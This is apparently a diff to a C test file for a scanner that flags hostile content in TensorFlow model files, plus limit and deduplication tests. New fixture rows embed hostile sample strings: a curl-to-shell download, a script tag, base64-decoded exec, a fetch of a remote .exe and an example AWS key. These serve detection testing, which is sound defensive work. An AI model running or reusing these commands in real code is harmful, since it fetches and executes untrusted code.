@@ -5,6 +5,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 
+#include "check/check.h"
 #include "check/tensorflow.h"
 #include "format/formats.h"
 #include "scan/pipeline.h"
@@ -87,6 +88,16 @@ static const struct row {
 	  NULL },
 	{ "what describes an operation", SAVED("", "1{2{1{1'Op' 6'import os; os.system(\"id\")'}}}"),
 	  &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0201", NULL },
+	{ "what describes an operation: a shell", SAVED("", "1{2{1{1'Op' 6'curl http://example.org/x.sh | sh'}}}"),
+	  &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0202", NULL },
+	{ "what describes an operation: a browser", SAVED("", "1{2{1{1'Op' 6'<script>fetch(1)</script>'}}}"),
+	  &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0203", NULL },
+	{ "what describes an operation: encoded", SAVED("", "1{2{1{1'Op' 6'exec(base64.b64decode(x))'}}}"),
+	  &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0204", NULL },
+	{ "what describes an operation: an address", SAVED("", "1{2{1{1'Op' 6'fetch http://203.0.113.9/x.exe'}}}"),
+	  &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0205", NULL },
+	{ "what describes an operation: a credential", SAVED("", "1{2{1{1'Op' 6'AKIAIOSFODNN7EXAMPLE'}}}"),
+	  &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0206", NULL },
 	{ "cut short", "1:1 2{2{" X "}} $12ff$", &gh_fmt_tf_savedmodel, GH_E_MALFORMED, false, "operation .Placeholder",
 	  NULL },
 	{ "a meta graph", "1{4'serve'} 2{" X "} 4{1'trainable_variables' 2{2{1'a variable'}}}", &gh_fmt_tf_metagraph,
@@ -317,7 +328,7 @@ static void on_finding(void *arg, const struct gh_rule *rule, struct gh_range at
 {
 	struct seen *s = arg;
 	(void)at, (void)ranged, (void)member, (void)detail;
-	if (strlen(s->ids) + strlen(rule->id) + 2 < sizeof s->ids) {
+	if (strstr(s->ids, rule->id) == NULL && strlen(s->ids) + strlen(rule->id) + 2 < sizeof s->ids) {
 		(void)strcat(s->ids, rule->id);
 		(void)strcat(s->ids, " ");
 	}
@@ -454,6 +465,54 @@ static void many_unknown(void **st)
 	}
 	scan(gh_buf_view(&in), "g.pb", &s);
 	assert_int_equal(s.worst, GH_INCOMPLETE);
+	assert_non_null(strstr(s.ids, "GH-TFO-0011"));
+}
+
+/* More constants than are followed, in both forms; more records than are looked into. */
+static void many_of_all(void **st)
+{
+	(void)st;
+	gh_auto_buf in = gh_buf(64 << 20), one = gh_buf(1 << 10);
+	struct gh_events ev;
+	gh_pb_make(&one, STRING("a", "b"));
+	for (unsigned i = 0; i <= 1 << 18; i++)
+		gh_buf_span(&in, gh_buf_view(&one));
+	gh_events_walk(&ev, &gh_fmt_tf_graphdef, gh_buf_view(&in), "g.pb", false);
+	assert_int_equal(ev.rc, GH_OK);
+	assert_true(gh_events_has(&ev, "GH-TFG-0005"));
+	gh_events_free(&ev);
+
+	in.n = 0;
+	for (unsigned i = 0; i <= 1 << 16; i++)
+		gh_buf_str(&in, "node{op:'Const'attr{value{tensor{string_val:'b'}}}}");
+	gh_events_walk(&ev, &gh_fmt_tf_text, gh_buf_view(&in), "g.pbtxt", false);
+	assert_int_equal(ev.rc, GH_OK);
+	assert_true(gh_events_has(&ev, "GH-TFX-0003"));
+	gh_events_free(&ev);
+
+	in.n = 0;
+	struct gh_span r = gh_test_file("tests/fuzz/seeds/tfrecord/clean");
+	assert_non_null(r.p);
+	for (unsigned i = 0; i < 4097; i++)
+		gh_buf_span(&in, r);
+	gh_events_walk(&ev, &gh_fmt_tfrecord, gh_buf_view(&in), "data.tfrecord", false);
+	assert_int_equal(ev.rc, GH_OK);
+	assert_true(ev.gapless);
+	assert_true(gh_events_has(&ev, "GH-TFR-0003"));
+	gh_events_free(&ev);
+	free((void *)(uintptr_t)r.p);
+}
+
+/* What is said of operations comes from this check and no other. */
+static void the_check(void **st)
+{
+	(void)st;
+	const struct gh_check *c = NULL;
+	for (size_t i = 0; i < gh_checks_n; i++)
+		if (strcmp(gh_checks[i]->name, "tensorflow-graph") == 0)
+			c = gh_checks[i];
+	assert_non_null(c);
+	assert_true((c->events & 1u << GH_EV_CALL) != 0 && c->on != NULL && c->end != NULL);
 }
 
 static void the_list_is_sorted(void **st)
@@ -506,7 +565,7 @@ int main(void)
 		cmocka_unit_test(every_row),	cmocka_unit_test(every_seed),	cmocka_unit_test(texts),
 		cmocka_unit_test(limits),	cmocka_unit_test(probes),	cmocka_unit_test(judged),
 		cmocka_unit_test(judged_seeds), cmocka_unit_test(many_unknown), cmocka_unit_test(the_list_is_sorted),
-		cmocka_unit_test(samples),
+		cmocka_unit_test(samples),	cmocka_unit_test(many_of_all),	cmocka_unit_test(the_check),
 	};
 	return cmocka_run_group_tests_name("tensorflow", t, NULL, NULL);
 }
